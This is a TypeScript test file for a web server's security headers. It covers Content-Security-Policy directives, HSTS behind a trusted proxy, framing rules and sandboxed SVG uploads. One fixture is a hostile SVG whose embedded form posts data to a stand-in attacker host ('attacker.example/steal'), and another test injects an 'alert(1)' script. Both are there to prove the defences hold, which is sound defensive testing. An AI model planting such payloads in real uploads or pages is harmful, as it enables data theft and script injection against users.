/**
 * Security headers (issue 10 items 12 and 13): the API's answers, the built admin's files and
 * its index.html carry a CSP that runs only this server's scripts and refuses foreign frames,
 * nosniff, a referrer policy and a permissions policy; HSTS only over HTTPS behind a trusted
 * proxy; uploads run nothing, post no form and open in a sandbox.
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import Fastify from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearerOf, login, setup, USERS, type TestContext } from './helper';
import { buildApp } from '../../server/app';
import { embeddable, registerSecurityHeaders } from '../../server/security/headers';
import { inlineScriptHashes } from '../../server/security/inlineScripts';

let ctx: TestContext;
let token: string;
// index.html's own inline script (the loading bar's painter, scripts/htmlShell.ts), allowed by its hash alone.
const INLINE = "document.getElementById('root').hidden = false";
const INLINE_HASH = `'sha256-${createHash('sha256').update(INLINE).digest('base64')}'`;
const staticDir = mkdtempSync(path.join(tmpdir(), 'headers-dist-'));

beforeAll(async () => {
  // A built admin in miniature: index.html and one hashed asset, as `vite build` leaves them.
  mkdirSync(path.join(staticDir, 'assets'));
  writeFileSync(
    path.join(staticDir, 'index.html'),
    `<!doctype html><html><head><script type="module" src="/assets/index-abc.js"></script></head><body><div id="root"><script>${INLINE}</script></div></body></html>`,
  );
  writeFileSync(path.join(staticDir, 'assets', 'index-abc.js'), 'console.log(1)');
  writeFileSync(path.join(staticDir, 'assets', 'index-Ab3dE_9z.js'), 'console.log(2)');
  writeFileSync(path.join(staticDir, 'assets', 'csv.worker-Xy7_kL2m.js'), 'self.onmessage = () => undefined');
  writeFileSync(path.join(staticDir, 'assets', 'event-default-Qw3rTy7u.svg'), '<svg xmlns="http://www.w3.org/2000/svg"/>');
  ctx = await setup({ staticDir, trustProxy: true });
  token = (await login(ctx.app, USERS.admin)).accessToken;
});
afterAll(async () => {
  await ctx?.close();
  rmSync(staticDir, { recursive: true, force: true });
});

/** The CSP as a map of directive to its sources. */
const cspOf = (header: unknown): Record<string, string[]> =>
  Object.fromEntries(
    String(header ?? '')
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name, sources]),
  );

function expectAdminHeaders(headers: Record<string, unknown>, what: string) {
  const csp = cspOf(headers['content-security-policy']);
  expect(csp['default-src'], what).toEqual(["'self'"]);
  // Scripts of this server only, and index.html's inline script by its hash; WebAssembly compiled,
  // never eval (the QR reader, the PDF renderer).
  expect(csp['script-src'], what).toEqual(["'self'", "'wasm-unsafe-eval'", INLINE_HASH]);
  // Workers only from this server's files (the CSV worker): not a blob: URL a script could build.
  expect(csp['worker-src'], what).toEqual(["'self'"]);
  expect(csp['object-src'], what).toEqual(["'none'"]);
  expect(csp['base-uri'], what).toEqual(["'self'"]);
  expect(csp['frame-ancestors'], what).toEqual(["'self'"]);
  expect(csp['connect-src'], what).toContain("'self'");
  expect(headers['x-frame-options'], what).toBe('SAMEORIGIN');
  expect(headers['x-content-type-options'], what).toBe('nosniff');
  expect(headers['referrer-policy'], what).toBe('strict-origin-when-cross-origin');
  const permissions = String(headers['permissions-policy']);
  expect(permissions, what).toContain('camera=(self)');
  expect(permissions, what).toContain('microphone=()');
  expect(permissions, what).toContain('geolocation=()');
  expect(permissions, what).toContain('payment=()');
}

describe('every answer carries the headers', () => {
  const cases: [string, string, Record<string, string>?][] = [
    ['the admin page', '/'],
    ['a client route (index.html as fallback)', '/events/123/edit'],
    ['a built script', '/assets/index-abc.js'],
    ['a public API answer', '/api/health'],
    ['an unknown API route (404)', '/api/nada'],
    ['an API answer without a token (401)', '/api/profile'],
    ['the OpenAPI document', '/api/docs/json'],
  ];
  it.each(cases)('%s', async (what, url) => {
    const res = await ctx.app.inject({ url });
    expect(res.statusCode, what).toBeLessThan(500);
    expectAdminHeaders(res.headers, what);
  });

  it('an authenticated API answer', async () => {
    const res = await ctx.app.inject({ url: '/api/events?limit=1', headers: bearerOf(token) });
    expect(res.statusCode).toBe(200);
    expectAdminHeaders(res.headers, 'GET /api/events');
  });

  it("every inline script of the served index.html is allowed by the policy, by its hash", async () => {
    const res = await ctx.app.inject({ url: '/' });
    const inline = [...res.body.matchAll(/<script>([\s\S]*?)<\/script>/g)].map(([, text]) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`);
    expect(inline).toEqual([INLINE_HASH]);
    expect(cspOf(res.headers['content-security-policy'])['script-src']).toEqual(expect.arrayContaining(inline));
  });
});

describe('built files under /assets', () => {
  it('a hashed script carries nosniff and Cross-Origin-Resource-Policy, and none of the headers only a document reads', async () => {
    const res = await ctx.app.inject({ url: '/assets/index-Ab3dE_9z.js' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['cross-origin-resource-policy']).toBe('same-origin');
    for (const name of ['content-security-policy', 'permissions-policy', 'x-frame-options', 'referrer-policy', 'cross-origin-opener-policy', 'x-xss-protection']) {
      expect(res.headers[name], name).toBeUndefined();
    }
  });

  it("a worker's script and an SVG, which a browser runs or opens as documents, keep every header", async () => {
    for (const url of ['/assets/csv.worker-Xy7_kL2m.js', '/assets/event-default-Qw3rTy7u.svg']) {
      const res = await ctx.app.inject({ url });
      expect(res.statusCode, url).toBe(200);
      expectAdminHeaders(res.headers, url);
    }
  });

  it('HSTS still reaches a hashed script served over HTTPS', async () => {
    const res = await ctx.app.inject({ url: '/assets/index-Ab3dE_9z.js', headers: { 'x-forwarded-proto': 'https' } });
    expect(res.headers['strict-transport-security']).toBe('max-age=31536000');
  });
});

describe("the door's page", () => {
  it("lets /validate compile the QR reader's WebAssembly, with the admin's policy otherwise", async () => {
    for (const url of ['/validate', '/validate?x=1']) {
      const res = await ctx.app.inject({ url });
      const csp = cspOf(res.headers['content-security-policy']);
      expect(csp['script-src'], url).toEqual(["'self'", "'wasm-unsafe-eval'", INLINE_HASH]);
      expect(csp['default-src'], url).toEqual(["'self'"]);
      expect(csp['object-src'], url).toEqual(["'none'"]);
      expect(csp['frame-ancestors'], url).toEqual(["'self'"]);
      expect(csp['img-src'], url).toEqual(["'self'", 'data:', 'https:']);
      expect(String(res.headers['permissions-policy'])).toContain('camera=(self)');
    }
    for (const url of ['/validate/accreditation', '/events', '/api/validate/counters']) {
      expectAdminHeaders((await ctx.app.inject({ url })).headers, url);
    }
  });
});

describe('HSTS', () => {
  it('is sent when a trusted proxy says the request came over HTTPS', async () => {
    const res = await ctx.app.inject({ url: '/api/health', headers: { 'x-forwarded-proto': 'https' } });
    expect(res.headers['strict-transport-security']).toBe('max-age=31536000');
  });

  it('is not sent over plain HTTP', async () => {
    const res = await ctx.app.inject({ url: '/api/health' });
    expect(res.headers['strict-transport-security']).toBeUndefined();
  });

  it('is not sent when X-Forwarded-Proto comes from an untrusted client (TRUST_PROXY off)', async () => {
    const app = await buildApp({ db: ctx.db, jwtSecret: 'x'.repeat(32), trustProxy: false });
    try {
      const res = await app.inject({ url: '/api/health', headers: { 'x-forwarded-proto': 'https' } });
      expect(res.statusCode).toBe(200);
      expect(res.headers['strict-transport-security']).toBeUndefined();
    } finally {
      await app.close();
    }
  });
});

describe("index.html's inline scripts", () => {
  it('are found by their text, and a script with a source is not one of them', () => {
    const html = `<script type="module" crossorigin src="/assets/index-abc.js"></script><div><script>${INLINE}</script><script src="/x.js"></script></div>`;
    expect(inlineScriptHashes(html)).toEqual([INLINE_HASH]);
    expect(inlineScriptHashes(html.replace(INLINE, `${INLINE};alert(1)`))).not.toContain(INLINE_HASH);
  });
});

describe('pages meant to be embedded', () => {
  it('a route with `embeddable` may be framed by the origins it names, and only that route', async () => {
    const app = Fastify();
    await registerSecurityHeaders(app);
    app.get('/preview', { helmet: embeddable(['https://loja.example.com']) }, async () => 'ok');
    app.get('/other', async () => 'ok');
    try {
      const preview = await app.inject({ url: '/preview' });
      expect(cspOf(preview.headers['content-security-policy'])['frame-ancestors']).toEqual(["'self'", 'https://loja.example.com']);
      expect(preview.headers['x-frame-options']).toBeUndefined();
      expect(cspOf(preview.headers['content-security-policy'])['script-src']).toEqual(["'self'", "'wasm-unsafe-eval'"]);
      const other = await app.inject({ url: '/other' });
      expect(cspOf(other.headers['content-security-policy'])['frame-ancestors']).toEqual(["'self'"]);
      expect(other.headers['x-frame-options']).toBe('SAMEORIGIN');
    } finally {
      await app.close();
    }
  });
});

describe('an admin built against another API server (VITE_API_URL)', () => {
  it('may call that server and its socket', async () => {
    const saved = process.env.VITE_API_URL;
    process.env.VITE_API_URL = 'https://api.bilheteria.example.com/base';
    const app = Fastify();
    try {
      await registerSecurityHeaders(app);
      app.get('/', async () => 'ok');
      const csp = cspOf((await app.inject({ url: '/' })).headers['content-security-policy']);
      expect(csp['connect-src']).toEqual(["'self'", 'https://api.bilheteria.example.com', 'wss://api.bilheteria.example.com']);
    } finally {
      if (saved === undefined) delete process.env.VITE_API_URL;
      else process.env.VITE_API_URL = saved;
      await app.close();
    }
  });
});

describe('uploads', () => {
  const SVG_WITH_FORM = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><foreignObject width="4" height="4">' +
      '<form xmlns="http://www.w3.org/1999/xhtml" action="https://attacker.example/steal" method="post"><input name="x"/></form>' +
      '</foreignObject></svg>',
  );

  it('an uploaded SVG is served in a sandbox that runs nothing and posts no form', async () => {
    const { id } = (await ctx.app.inject({ method: 'POST', url: '/api/events', headers: bearerOf(token), payload: { title: 'SVG com formulário' } })).json();
    const put = await ctx.app.inject({
      method: 'PUT',
      url: `/api/events/${id}/images`,
      headers: bearerOf(token),
      payload: { data: `data:image/svg+xml;base64,${SVG_WITH_FORM.toString('base64')}` },
    });
    expect(put.statusCode, put.body).toBe(200);
    const res = await ctx.app.inject({ url: put.json().images[0].url });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('image/svg+xml');
    const csp = cspOf(res.headers['content-security-policy']);
    expect(csp['default-src']).toEqual(["'none'"]);
    expect(csp['form-action']).toEqual(["'none'"]);
    expect(csp.sandbox).toEqual([]);
    expect(csp['script-src']).toBeUndefined();
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-disposition']).toMatch(/^inline; filename="[0-9a-f-]+\.svg"$/);
  });

  it('an unknown upload answers 404 with the same policy', async () => {
    const res = await ctx.app.inject({ url: '/uploads/nada/nada.svg' });
    expect(res.statusCode).toBe(404);
    expect(cspOf(res.headers['content-security-policy']).sandbox).toEqual([]);
  });
});
